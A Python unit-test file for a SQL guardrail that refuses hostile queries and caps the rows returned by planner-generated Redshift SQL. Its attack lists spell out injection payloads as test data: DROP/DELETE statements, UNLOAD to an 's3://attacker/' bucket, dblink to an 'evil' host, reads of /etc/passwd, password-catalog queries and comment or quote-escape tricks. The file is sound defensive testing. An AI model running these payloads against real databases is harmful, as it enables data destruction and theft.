"""Unit tests for memtool.sql.guardrails: attacks are refused with a code, planner SQL runs capped."""

from __future__ import annotations

import subprocess
import sys

import pytest
import sqlglot
from sqlglot import exp

from memtool.semantic.catalog import load_catalog
from memtool.sql.demo_warehouse import WAREHOUSE_SCHEMA
from memtool.sql.guardrails import MAX_SQL_CHARS, GuardPolicy, GuardVerdict, check_sql
from memtool.sql.live_schema import LiveSchema

DEMO = GuardPolicy.from_model(load_catalog())

# --------------------------------------------------------------------------- attacks

# (id, sql, expected code). Every one must be refused.
ATTACKS: list[tuple[str, str, str]] = [
    # DDL / DML / utility statements
    ("drop_table", "DROP TABLE fact_order_line", "not_select"),
    ("delete", "DELETE FROM fact_refund WHERE 1 = 1", "not_select"),
    ("update", "UPDATE fact_order_line SET qty = 0", "not_select"),
    ("insert_select", "INSERT INTO dim_region SELECT * FROM dim_region", "not_select"),
    ("truncate", "TRUNCATE fact_order_line", "not_select"),
    ("alter", "ALTER TABLE dim_region ADD COLUMN owner VARCHAR(10)", "not_select"),
    ("create_table_as", "CREATE TABLE leak AS SELECT * FROM fact_order_line", "not_select"),
    ("grant", "GRANT SELECT ON ALL TABLES IN SCHEMA public TO PUBLIC", "not_select"),
    ("copy_from_s3", "COPY dim_region FROM 's3://bucket/r.csv' IAM_ROLE 'arn:aws:iam::123456789012:role/r' CSV", "not_select"),
    (
        "unload_to_s3",
        "UNLOAD ('select * from fact_order_line') TO 's3://attacker/dump_' IAM_ROLE 'arn:aws:iam::123456789012:role/r'",
        "not_select",
    ),
    ("merge", "MERGE INTO dim_region USING dim_channel ON 1 = 1 WHEN MATCHED THEN DELETE", "not_select"),
    ("call_procedure", "CALL sp_cleanup()", "not_select"),
    ("vacuum", "VACUUM fact_order_line", "not_select"),
    ("analyze", "ANALYZE fact_order_line", "not_select"),
    ("explain", "EXPLAIN SELECT * FROM fact_order_line", "not_select"),
    ("set_search_path", "SET search_path TO pg_catalog", "not_select"),
    ("show", "SHOW search_path", "not_select"),
    ("select_into", "SELECT * INTO leak_copy FROM fact_order_line", "not_select"),
    ("select_into_temp", "SELECT region_id INTO TEMP t FROM dim_region", "not_select"),
    ("data_modifying_cte", "WITH d AS (DELETE FROM fact_refund RETURNING *) SELECT * FROM d", "not_select"),
    ("for_update", "SELECT region_id FROM dim_region FOR UPDATE", "not_select"),
    # more than one statement, and comments that hide one
    ("two_statements", "select 1; drop table x", "multiple_statements"),
    ("block_comment_then_delete", "select 1 /* */; delete from fact_refund", "multiple_statements"),
    ("line_comment_hiding_drop", "select 1 -- ; drop table fact_order_line", "comment_trick"),
    ("mysql_executable_comment", "/*!*/ select 1", "comment_trick"),
    ("executable_comment_with_stmt", "select 1 /*! ; drop table fact_refund */", "comment_trick"),
    ("nested_comment", "select 1 /* outer /* inner */ still comment */", "comment_trick"),
    ("unterminated_comment", "select 1 /* ; drop table x", "parse_error"),
    # system catalogs, directly and hidden in unions, subqueries and CTEs
    ("pg_user", "SELECT usename, passwd FROM pg_user", "system_catalog"),
    ("union_pg_user", "SELECT channel_name FROM dim_channel UNION SELECT usename FROM pg_user", "system_catalog"),
    ("union_pg_tables", "SELECT city FROM dim_region UNION SELECT tablename FROM pg_catalog.pg_tables", "system_catalog"),
    (
        "union_information_schema",
        "SELECT channel_name FROM dim_channel UNION SELECT table_name FROM information_schema.tables",
        "system_catalog",
    ),
    ("union_stl_query", "SELECT channel_name FROM dim_channel UNION SELECT querytxt FROM stl_query", "system_catalog"),
    ("union_svv_table_info", 'SELECT city FROM dim_region UNION SELECT "table" FROM svv_table_info', "system_catalog"),
    ("sys_view", "SELECT query_text FROM sys_query_history", "system_catalog"),
    (
        "subquery_pg_shadow",
        "SELECT channel_name FROM dim_channel WHERE channel_id IN (SELECT usesysid FROM pg_shadow)",
        "system_catalog",
    ),
    ("scalar_subquery_pg_user", "SELECT city FROM dim_region WHERE (SELECT COUNT(*) FROM pg_user) > 0", "system_catalog"),
    ("cte_pg_user", "WITH u AS (SELECT usename FROM pg_user) SELECT * FROM u", "system_catalog"),
    ("quoted_pg_catalog", 'select * from "pg_catalog"."pg_user"', "system_catalog"),
    ("cte_named_like_catalog", "WITH pg_user AS (SELECT region_id FROM dim_region) SELECT * FROM pg_user", "system_catalog"),
    # dangerous functions
    ("pg_sleep", "SELECT pg_sleep(10)", "forbidden_function"),
    ("pg_sleep_in_where", "SELECT region_id FROM dim_region WHERE pg_sleep(10) IS NOT NULL", "forbidden_function"),
    ("pg_sleep_qualified", "SELECT pg_catalog.pg_sleep(10)", "forbidden_function"),
    ("pg_sleep_quoted", 'SELECT "pg_sleep"(10)', "forbidden_function"),
    ("pg_read_file", "SELECT pg_read_file('/etc/passwd')", "forbidden_function"),
    ("lo_export", "SELECT lo_export(16409, '/tmp/x')", "forbidden_function"),
    ("lo_import", "SELECT lo_import('/etc/passwd')", "forbidden_function"),
    ("dblink", "SELECT * FROM dblink('host=evil', 'select 1') AS t(a INT)", "forbidden_function"),
    ("dblink_in_projection", "SELECT dblink('host=evil', 'select 1')", "forbidden_function"),
    ("set_config", "SELECT set_config('statement_timeout', '0', false)", "forbidden_function"),
    ("current_setting", "SELECT current_setting('search_path')", "forbidden_function"),
    ("pg_terminate_backend", "SELECT pg_terminate_backend(1234)", "forbidden_function"),
    ("pg_cancel_backend", "SELECT pg_cancel_backend(1234)", "forbidden_function"),
    ("version", "SELECT version()", "forbidden_function"),
    ("table_function", "SELECT * FROM generate_series(1, 1000000000)", "forbidden_function"),
    # tables and columns outside the allow-list
    ("other_table", "SELECT * FROM users", "forbidden_table"),
    ("other_table_in_join", "SELECT f.qty FROM fact_order_line f JOIN users u ON u.id = f.order_id", "forbidden_table"),
    ("cte_shadowing_its_own_source", "WITH users AS (SELECT * FROM users) SELECT * FROM users", "forbidden_table"),
    ("schema_qualified", "SELECT * FROM finance.salaries", "forbidden_table"),
    ("homoglyph_cyrillic_i", "SELECT * FROM dim_reg\u0456on", "forbidden_table"),
    ("homoglyph_quoted", 'SELECT * FROM "dim_reg\u0456on"', "forbidden_table"),
    ("trailing_space_quoted", 'SELECT * FROM "dim_region "', "forbidden_table"),
    ("forbidden_column", "SELECT region_name, manager_phone FROM dim_region", "forbidden_column"),
    ("column_of_other_table", "SELECT r.qty FROM dim_region r", "forbidden_column"),
    ("unknown_qualifier", "SELECT x.region_id FROM dim_region r", "forbidden_column"),
    # odd quoting, odd lexing, odd limits
    ("backtick_quoting", "SELECT * FROM `dim_region`", "parse_error"),
    ("bracket_quoting", "SELECT * FROM [dim_region]", "parse_error"),
    ("dollar_quoting", "SELECT 1 WHERE 1 = 1 $$ ; DROP TABLE x $$", "parse_error"),
    ("limit_placeholder", "SELECT region_id FROM dim_region LIMIT %s", "invalid_limit"),
    ("fetch_percent", "SELECT region_id FROM dim_region FETCH FIRST 50 PERCENT ROWS ONLY", "invalid_limit"),
    ("empty", "   ", "parse_error"),
    ("overlong", "SELECT region_id FROM dim_region WHERE region_id IN (" + ", ".join(["1"] * 7000) + ")", "too_long"),
]


def test_the_attack_list_is_long_enough_and_unique() -> None:
    assert len(ATTACKS) >= 30
    assert len({name for name, _, _ in ATTACKS}) == len(ATTACKS)


@pytest.mark.parametrize(("sql", "code"), [(sql, code) for _, sql, code in ATTACKS], ids=[name for name, _, _ in ATTACKS])
def test_attack_is_refused_with_a_reason(sql: str, code: str) -> None:
    verdict = check_sql(sql, DEMO)

    assert verdict.allowed is False
    assert verdict.code == code, verdict.reason
    assert verdict.sql is None
    assert verdict.reason and verdict.reason.endswith(".")
    assert verdict.as_error() == {"error": code, "message": verdict.reason}


def test_overlong_query_is_refused_before_parsing() -> None:
    sql = "SELECT 1" + " " * MAX_SQL_CHARS

    verdict = check_sql(sql, DEMO)

    assert verdict.code == "too_long"
    assert "20,000" in (verdict.reason or "")


def test_refusals_name_what_was_wrong() -> None:
    assert "pg_user" in (check_sql("SELECT usename FROM pg_user", DEMO).reason or "")
    assert "users" in (check_sql("SELECT * FROM users", DEMO).reason or "")
    assert "manager_phone" in (check_sql("SELECT manager_phone FROM dim_region", DEMO).reason or "")
    assert "pg_sleep" in (check_sql("SELECT pg_sleep(1)", DEMO).reason or "")
    assert "DROP" in (check_sql("DROP TABLE dim_region", DEMO).reason or "")
    assert "UNLOAD" in (check_sql("UNLOAD ('select 1') TO 's3://x/'", DEMO).reason or "")
    hint = check_sql("SELECT * FROM public.dim_region", DEMO).reason or ""
    assert "public.dim_region" in hint and "without a schema" in hint


def test_escaped_quote_cannot_smuggle_a_statement_out_of_a_string() -> None:
    # Redshift treats backslash as an escape inside literals; sqlglot lexes the same way, and the
    # regenerated text keeps everything inside one string literal.
    verdict = check_sql(r"SELECT 'a\'; DROP TABLE fact_refund; --' AS note", DEMO)

    assert verdict.allowed
    reparsed = sqlglot.parse(verdict.sql, read="redshift")
    assert len([s for s in reparsed if s is not None]) == 1
    assert not list(reparsed[0].find_all(exp.Drop))


# --------------------------------------------------------------------------- planner SQL passes

NET_REVENUE_BY_CHANNEL_LAST_MONTH = """
WITH refunds AS (
    SELECT r.order_id, r.line_id, SUM(r.refund_amount) AS refund_amount
    FROM fact_refund r
    GROUP BY r.order_id, r.line_id
)
SELECT c.channel_name,
       SUM(f.gross_amount - f.discount_amount - COALESCE(rf.refund_amount, 0)) AS net_revenue
FROM fact_order_line f
JOIN dim_channel c ON c.channel_id = f.channel_id
LEFT JOIN refunds rf ON rf.order_id = f.order_id AND rf.line_id = f.line_id
WHERE f.is_test = FALSE
  AND f.paid_at >= DATE_TRUNC('month', DATEADD(month, -1, GETDATE()))
  AND f.paid_at < DATE_TRUNC('month', GETDATE())
GROUP BY c.channel_name
ORDER BY net_revenue DESC
"""

MONTHLY_REVENUE_WITH_MOM = """
WITH monthly AS (
    SELECT DATE_TRUNC('month', paid_at) AS month, SUM(gross_amount - discount_amount) AS revenue
    FROM fact_order_line
    WHERE NOT is_test
    GROUP BY DATE_TRUNC('month', paid_at)
)
SELECT month,
       revenue,
       LAG(revenue) OVER (ORDER BY month) AS prev_revenue,
       CASE WHEN LAG(revenue) OVER (ORDER BY month) IS NULL OR LAG(revenue) OVER (ORDER BY month) = 0 THEN NULL
            ELSE (revenue - LAG(revenue) OVER (ORDER BY month)) / LAG(revenue) OVER (ORDER BY month)
       END AS mom_growth
FROM monthly
ORDER BY month
"""

TOP5_PRODUCTS = """
SELECT p.product_name, SUM(f.qty) AS units
FROM fact_order_line f
JOIN dim_product p ON p.product_id = f.product_id
WHERE f.order_date >= DATEADD(day, -30, CURRENT_DATE)
GROUP BY p.product_name
ORDER BY units DESC
LIMIT 5
"""

ORDERS_AND_PRESCRIPTIONS_BY_REGION = """
SELECT region_id, 'orders' AS source, COUNT(*) AS n FROM fact_order_line GROUP BY region_id
UNION ALL
SELECT region_id, 'prescriptions' AS source, COUNT(*) AS n FROM fact_prescription GROUP BY region_id
"""

CITY_UNITS_WITH_NVL_AND_CASTS = """
SELECT r.city, r.city_en, NVL(SUM(f.qty), 0)::INT AS units, SUM(f.gross_amount)::DECIMAL(14, 2) AS gross
FROM fact_order_line f
JOIN dim_region r ON r.region_id = f.region_id
WHERE r.region_name = '华东' AND f.order_date BETWEEN '2026-10-01'::DATE AND DATEADD(day, -1, '2026-11-01'::DATE)
GROUP BY r.city, r.city_en
"""

REFUND_RATE_BY_REASON = """
SELECT fr.reason,
       COUNT(DISTINCT fr.refund_id) AS refunds,
       SUM(CASE WHEN fr.refund_amount > 100 THEN 1 ELSE 0 END) AS large_refunds,
       ROUND(SUM(fr.refund_amount) / NULLIF(SUM(f.gross_amount), 0), 4) AS refund_rate
FROM fact_refund fr
JOIN fact_order_line f ON f.order_id = fr.order_id AND f.line_id = fr.line_id
WHERE EXTRACT(year FROM fr.refunded_at) = 2026
GROUP BY fr.reason
HAVING COUNT(*) > 0
"""

PRODUCTS_WITH_PRESCRIPTIONS = """
SELECT p.product_name, p.therapeutic_area
FROM dim_product p
WHERE EXISTS (SELECT 1 FROM fact_prescription rx WHERE rx.product_id = p.product_id AND rx.rx_date >= p.launch_date)
  AND p.product_id IN (SELECT product_id FROM fact_order_line WHERE channel_id = %s)
"""

RANKED_PRODUCTS_PER_AREA = """
SELECT therapeutic_area, product_name, units, rnk
FROM (
    SELECT p.therapeutic_area, p.product_name, SUM(f.qty) AS units,
           RANK() OVER (PARTITION BY p.therapeutic_area ORDER BY SUM(f.qty) DESC) AS rnk
    FROM fact_order_line f JOIN dim_product p ON p.product_id = f.product_id
    GROUP BY p.therapeutic_area, p.product_name
) ranked
WHERE rnk <= 3
ORDER BY therapeutic_area, rnk
"""

PLANNER_QUERIES = {
    "net_revenue_by_channel_last_month": (
        NET_REVENUE_BY_CHANNEL_LAST_MONTH,
        ["fact_refund", "fact_order_line", "dim_channel"],
    ),
    "monthly_revenue_with_mom": (MONTHLY_REVENUE_WITH_MOM, ["fact_order_line"]),
    "top5_products": (TOP5_PRODUCTS, ["fact_order_line", "dim_product"]),
    "union_of_two_selects": (ORDERS_AND_PRESCRIPTIONS_BY_REGION, ["fact_order_line", "fact_prescription"]),
    "nvl_and_casts": (CITY_UNITS_WITH_NVL_AND_CASTS, ["fact_order_line", "dim_region"]),
    "case_and_extract": (REFUND_RATE_BY_REASON, ["fact_refund", "fact_order_line"]),
    "exists_and_in_subqueries": (PRODUCTS_WITH_PRESCRIPTIONS, ["dim_product", "fact_prescription", "fact_order_line"]),
    "window_in_derived_table": (RANKED_PRODUCTS_PER_AREA, ["fact_order_line", "dim_product"]),
}


def with_limit(sql: str, limit: int) -> str:
    """The input as Redshift SQL with only its top-level LIMIT replaced."""
    tree = sqlglot.parse_one(sql, read="redshift")
    tree.set("limit", exp.Limit(expression=exp.Literal.number(limit)))
    return tree.sql(dialect="redshift")


@pytest.mark.parametrize(("sql", "tables"), list(PLANNER_QUERIES.values()), ids=list(PLANNER_QUERIES))
def test_planner_query_passes_unchanged_but_for_the_limit(sql: str, tables: list[str]) -> None:
    verdict = check_sql(sql, DEMO)

    assert verdict.allowed, verdict.reason
    assert verdict.code is None and verdict.reason is None
    expected_limit = 5 if "LIMIT 5" in sql else DEMO.max_rows
    assert verdict.limit == expected_limit
    assert verdict.sql == with_limit(sql, expected_limit)
    assert verdict.sql.endswith(f"LIMIT {expected_limit}")
    assert sorted(verdict.tables) == sorted(tables)


def test_rewritten_sql_reads_as_redshift() -> None:
    verdict = check_sql(MONTHLY_REVENUE_WITH_MOM, DEMO)

    assert verdict.sql is not None
    assert "DATE_TRUNC('MONTH', paid_at)" in verdict.sql
    assert "LAG(revenue) OVER (ORDER BY month)" in verdict.sql
    assert verdict.sql.startswith("WITH monthly AS (")

    casts = check_sql(CITY_UNITS_WITH_NVL_AND_CASTS, DEMO).sql or ""
    assert "CAST(COALESCE(SUM(f.qty), 0) AS INTEGER) AS units" in casts
    assert "DATEADD(DAY, -1, CAST('2026-11-01' AS DATE))" in casts
    assert "'华东'" in casts


def test_limit_is_added_when_absent() -> None:
    verdict = check_sql("SELECT region_name FROM dim_region", DEMO)

    assert verdict.sql == "SELECT region_name FROM dim_region LIMIT 1000"
    assert verdict.limit == 1000


def test_a_larger_limit_is_tightened() -> None:
    verdict = check_sql("SELECT region_name FROM dim_region ORDER BY region_name LIMIT 50000", DEMO)

    assert verdict.sql == "SELECT region_name FROM dim_region ORDER BY region_name LIMIT 1000"
    assert verdict.limit == 1000


def test_a_smaller_limit_and_its_offset_are_kept() -> None:
    verdict = check_sql("SELECT region_name FROM dim_region ORDER BY region_name LIMIT 10 OFFSET 20", DEMO)

    assert verdict.sql == "SELECT region_name FROM dim_region ORDER BY region_name LIMIT 10 OFFSET 20"
    assert verdict.limit == 10


def test_limit_all_and_fetch_first_become_a_capped_limit() -> None:
    assert check_sql("SELECT region_id FROM dim_region LIMIT ALL", DEMO).sql == "SELECT region_id FROM dim_region LIMIT 1000"
    fetched = check_sql("SELECT region_id FROM dim_region ORDER BY region_id FETCH FIRST 7 ROWS ONLY", DEMO)
    assert fetched.sql == "SELECT region_id FROM dim_region ORDER BY region_id LIMIT 7"
    assert fetched.limit == 7


def test_union_limit_applies_to_the_whole_union_and_branch_limits_stay() -> None:
    small = GuardPolicy.from_model(load_catalog(), max_rows=20)

    plain = check_sql("SELECT region_id FROM dim_region UNION SELECT region_id FROM fact_order_line", small)
    capped = check_sql("SELECT region_id FROM dim_region UNION SELECT region_id FROM fact_order_line LIMIT 500", small)
    branches = check_sql(
        "(SELECT region_id FROM dim_region LIMIT 3) UNION ALL (SELECT region_id FROM fact_prescription)", small
    )

    assert plain.sql == "SELECT region_id FROM dim_region UNION SELECT region_id FROM fact_order_line LIMIT 20"
    assert capped.sql == plain.sql
    assert branches.sql == (
        "(SELECT region_id FROM dim_region LIMIT 3) UNION ALL (SELECT region_id FROM fact_prescription) LIMIT 20"
    )
    tree = sqlglot.parse_one(plain.sql, read="redshift")
    assert isinstance(tree, exp.Union) and tree.args["limit"].expression.this == "20"


def test_inner_limits_are_not_the_row_cap() -> None:
    verdict = check_sql("SELECT x.region_id FROM (SELECT region_id FROM dim_region LIMIT 5000) x", DEMO)

    assert verdict.sql == "SELECT x.region_id FROM (SELECT region_id FROM dim_region LIMIT 5000) AS x LIMIT 1000"


def test_comments_are_stripped_from_the_sql_that_runs() -> None:
    sql = "-- revenue by city\nSELECT city /* the Chinese name */ FROM dim_region"

    verdict = check_sql(sql, DEMO)

    assert verdict.allowed
    assert verdict.sql == "SELECT city FROM dim_region LIMIT 1000"


def test_one_trailing_semicolon_is_one_statement() -> None:
    assert check_sql("SELECT city FROM dim_region;", DEMO).sql == "SELECT city FROM dim_region LIMIT 1000"


def test_select_without_tables_and_parameters_pass() -> None:
    assert check_sql("SELECT GETDATE() AS now, CURRENT_DATE AS today", DEMO).allowed
    parameterized = "SELECT SUM(gross_amount) AS gross FROM fact_order_line WHERE region_id = %s AND channel_id = %s"
    assert check_sql(parameterized, DEMO).sql == parameterized + " LIMIT 1000"


def test_quoted_and_upper_case_names_resolve_like_redshift() -> None:
    # Redshift folds identifiers to lower case unless enable_case_sensitive_identifier is on.
    verdict = check_sql('SELECT "REGION_NAME" FROM "DIM_REGION"', DEMO)

    assert verdict.allowed
    assert verdict.tables == ["dim_region"]


# --------------------------------------------------------------------------- SELECT *


def test_star_on_an_allowed_table_expands_to_its_allowed_columns() -> None:
    verdict = check_sql("SELECT * FROM dim_channel", DEMO)

    assert verdict.sql == "SELECT channel_id, channel_name, channel_en FROM dim_channel LIMIT 1000"


def test_star_over_a_join_is_qualified_per_table() -> None:
    verdict = check_sql("SELECT c.*, r.city FROM dim_channel c CROSS JOIN dim_region r", DEMO)

    assert verdict.sql == (
        "SELECT c.channel_id, c.channel_name, c.channel_en, r.city FROM dim_channel AS c CROSS JOIN dim_region AS r LIMIT 1000"
    )


def test_star_over_a_using_join_shows_the_shared_columns_once() -> None:
    policy = GuardPolicy({"fact_refund": ["refund_id", "channel_id"], "dim_channel": ["channel_id", "channel_en"]})

    verdict = check_sql("SELECT * FROM fact_refund JOIN dim_channel USING (channel_id)", policy)

    assert verdict.sql == (
        "SELECT fact_refund.refund_id, fact_refund.channel_id, dim_channel.channel_en "
        "FROM fact_refund JOIN dim_channel USING (channel_id) LIMIT 1000"
    )


def test_star_over_a_cte_stays_a_star() -> None:
    verdict = check_sql("WITH c AS (SELECT channel_id, channel_name FROM dim_channel) SELECT * FROM c", DEMO)

    assert verdict.sql == "WITH c AS (SELECT channel_id, channel_name FROM dim_channel) SELECT * FROM c LIMIT 1000"


def test_partial_column_allow_list_hides_the_other_columns() -> None:
    policy = GuardPolicy({"dim_region": ["region_id", "city_en"], "users": ["user_id", "city"]})

    star = check_sql("SELECT * FROM users", policy)
    hidden = check_sql("SELECT user_id, email FROM users", policy)
    through_cte = check_sql("WITH u AS (SELECT * FROM users) SELECT u.email FROM u", policy)

    assert star.sql == "SELECT user_id, city FROM users LIMIT 1000"
    assert hidden.code == "forbidden_column"
    assert through_cte.code == "forbidden_column"


# --------------------------------------------------------------------------- policy


def test_demo_policy_mirrors_the_warehouse_schema() -> None:
    assert set(DEMO.allowed) == set(WAREHOUSE_SCHEMA)
    assert DEMO.columns_of("fact_order_line") == tuple(WAREHOUSE_SCHEMA["fact_order_line"])
    assert DEMO.max_rows == 1000 and DEMO.timeout_seconds == 30


def test_policy_keys_may_be_schema_qualified() -> None:
    policy = GuardPolicy({"analytics.Orders": ["order_id"]}, max_rows=10)

    assert check_sql("SELECT order_id FROM analytics.orders", policy).sql == "SELECT order_id FROM analytics.orders LIMIT 10"
    assert check_sql("SELECT order_id FROM orders", policy).code == "forbidden_table"


def test_policy_from_a_drifted_live_schema_allows_the_new_names_and_refuses_the_old() -> None:
    # Given a warehouse where gross_amount became gross_amt and dim_channel became dim_sales_channel
    live = LiveSchema.from_rows(
        [
            ("Fact_Order_Line", "order_id", "BIGINT"),
            ("fact_order_line", "gross_amt", "DECIMAL(12,2)"),
            ("fact_order_line", "channel_id", "INTEGER"),
            ("dim_sales_channel", "channel_id", "INTEGER"),
            ("dim_sales_channel", "channel_name", "VARCHAR"),
        ]
    )

    # When the guard's allow-list comes from it
    policy = GuardPolicy.from_live_schema(live, max_rows=50, timeout_seconds=5)

    # Then the live names pass, capped, and the contract's old names are refused before they run
    assert policy.allowed == {
        "fact_order_line": ("order_id", "gross_amt", "channel_id"),
        "dim_sales_channel": ("channel_id", "channel_name"),
    }
    assert (policy.max_rows, policy.timeout_seconds) == (50, 5)
    joined = check_sql(
        "SELECT c.channel_name, SUM(f.gross_amt) FROM fact_order_line f "
        "JOIN dim_sales_channel c ON c.channel_id = f.channel_id GROUP BY 1",
        policy,
    )
    assert joined.allowed and joined.limit == 50
    assert joined.tables == ["fact_order_line", "dim_sales_channel"]
    assert check_sql("SELECT SUM(gross_amount) FROM fact_order_line", policy).code == "forbidden_column"
    assert check_sql("SELECT channel_name FROM dim_channel", policy).code == "forbidden_table"
    assert check_sql("SELECT * FROM fact_order_line", policy).sql == (
        "SELECT order_id, gross_amt, channel_id FROM fact_order_line LIMIT 50"
    )


@pytest.mark.parametrize("kwargs", [{"max_rows": 0}, {"timeout_seconds": 0}])
def test_policy_rejects_nonsense_limits(kwargs: dict[str, float]) -> None:
    with pytest.raises(ValueError):
        GuardPolicy({"t": ["a"]}, **kwargs)  # type: ignore[arg-type]


def test_verdict_is_a_value() -> None:
    verdict = check_sql("SELECT 1", DEMO)

    assert verdict == GuardVerdict(True, "SELECT 1 LIMIT 1000", None, None, [], 1000)


def test_sqlglot_is_imported_only_when_a_query_is_checked() -> None:
    code = "import sys, memtool.sql.guardrails as g; print('sqlglot' in sys.modules)"

    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout.strip()

    assert out == "False"


# --------------------------------------------------------------------------- the review's attacks, per engine

# What got through before the guard became an allow-list: table functions after LATERAL, in a
# subquery, in a CTE, and functions that read the server. Each is refused as Redshift reads it and
# as the engine that runs it (DuckDB, PostgreSQL) reads the transpiled text.
REVIEW_ATTACKS: dict[str, str] = {
    "lateral_query": "SELECT city FROM dim_region, LATERAL query('SELECT c_name FROM customer') AS q(v)",
    "lateral_query_chr": "SELECT (SELECT string_agg(v, ',') FROM LATERAL query(chr(83)||chr(69)||chr(76)) AS q(v)) AS x FROM dim_region",
    "lateral_in_union": "SELECT city FROM dim_region UNION ALL SELECT v FROM dim_region, LATERAL query_table('customer') AS q(v)",
    "query_table_in_from": "SELECT * FROM query_table('customer')",
    "read_text_in_cte": "WITH f AS (SELECT * FROM read_text('/etc/hostname')) SELECT * FROM f",
    "read_text_scalar": "SELECT (SELECT content FROM read_text('/etc/hostname')) AS c FROM dim_region",
    "duckdb_tables": "SELECT * FROM duckdb_tables()",
    "duckdb_settings_lateral": "SELECT city FROM dim_region, LATERAL duckdb_settings() AS s",
    "duckdb_function_scalar": "SELECT city, duckdb_extensions() FROM dim_region",
    "current_setting": "SELECT current_setting('memory_limit') FROM dim_region",
    "version": "SELECT version() FROM dim_region",
    "current_user": "SELECT current_user FROM dim_region",
    "unnest": "SELECT city FROM dim_region CROSS JOIN UNNEST(ARRAY[1, 2]) AS u(x)",
    "values_rows": "SELECT * FROM (VALUES (1), (2)) AS v(x)",
    "generate_series": "SELECT * FROM generate_series(1, 10)",
    "exists_table_function": "SELECT city FROM dim_region WHERE EXISTS (SELECT 1 FROM query_table('customer'))",
    "an_unlisted_function": "SELECT md5(city) FROM dim_region",
    "a_table_outside_the_model": "SELECT c_name FROM customer",
    "a_catalog_table": "SELECT table_name FROM information_schema.tables",
}


@pytest.mark.parametrize("engine", ["redshift", "duckdb", "postgres"])
@pytest.mark.parametrize("sql", list(REVIEW_ATTACKS.values()), ids=list(REVIEW_ATTACKS))
def test_the_reviews_attacks_are_refused_on_every_engine(sql: str, engine: str) -> None:
    verdict = check_sql(sql, DEMO.on_engine(engine))
    assert not verdict.allowed and verdict.sql is None, (engine, verdict)
    assert verdict.code in ("forbidden_function", "forbidden_table", "system_catalog"), verdict


@pytest.mark.parametrize("engine", ["redshift", "duckdb", "postgres"])
def test_what_the_compiler_and_planners_write_passes_on_every_engine(engine: str) -> None:
    for sql, _ in PLANNER_QUERIES.values():
        verdict = check_sql(sql, DEMO.on_engine(engine))
        assert verdict.allowed, (engine, sql, verdict.reason)


def test_a_value_ending_in_a_backslash_stays_one_literal_on_every_engine() -> None:
    from memtool.sql.literals import string_literal

    value = "x\\') UNION ALL SELECT c_name FROM customer --"
    sql = f"SELECT city FROM dim_region WHERE city IN ({string_literal(value)})"
    for engine in ("redshift", "duckdb", "postgres"):
        verdict = check_sql(sql, DEMO.on_engine(engine))
        assert verdict.allowed and verdict.sql is not None, (engine, verdict.reason)
        tree = sqlglot.parse_one(verdict.sql, read="redshift")
        assert [lit.this for lit in tree.find_all(exp.Literal) if lit.is_string] == [value]
        assert not list(tree.find_all(exp.Union))
        ran_as = sqlglot.transpile(verdict.sql, read="redshift", write=engine)[0]
        assert [lit.this for lit in sqlglot.parse_one(ran_as, read=engine).find_all(exp.Literal) if lit.is_string] == [value]


def test_the_old_quoting_is_what_let_the_value_out() -> None:
    """The control: doubling quotes only, as the compiler did, turns the same value into a UNION."""
    value = "x\\') UNION ALL SELECT city FROM dim_region --"
    doubled = "'" + value.replace("'", "''") + "'"  # the old _literal
    tree = sqlglot.parse_one(f"SELECT city FROM dim_region WHERE city IN ({doubled})", read="redshift")
    assert list(tree.find_all(exp.Union))


def test_a_grant_bounds_the_allow_list_whatever_the_model_names() -> None:
    schema = LiveSchema({"dim_region": {"city": "varchar"}, "customer": {"c_name": "varchar"}, "payroll": {"salary": "varchar"}})

    class Model:  # a curator's model that names another tenant's table
        physical_tables = ("dim_region", "customer")

    policy = GuardPolicy.for_model(schema, Model(), granted=("dim_*",))  # type: ignore[arg-type]
    assert set(policy.allowed) == {"dim_region"}
    assert check_sql("SELECT c_name FROM customer", policy).code == "forbidden_table"
    ungranted = GuardPolicy.for_model(schema, Model())  # type: ignore[arg-type]
    assert "customer" in ungranted.allowed  # without a grant, the model is the wall (a warehouse of its own)


def test_a_grants_star_never_crosses_a_dot() -> None:
    from memtool.sql.grants import table_granted, table_pattern_problem

    assert table_granted("dim_region", ("dim_*",))
    assert not table_granted("dim_wh.payroll", ("dim_*",))  # another schema or catalog that starts the same way
    assert not table_granted("main.dim_region", ("dim_*",))  # qualified names match qualified patterns only
    assert table_granted("sales.fact_orders", ("sales.fact_*",)) and not table_granted("hr.fact_pay", ("sales.fact_*",))
    assert table_granted("anything", ("*",)) and not table_granted("other.anything", ("*",))
    assert table_pattern_problem("fact; DROP") and table_pattern_problem("a.b.c.d") and table_pattern_problem("")
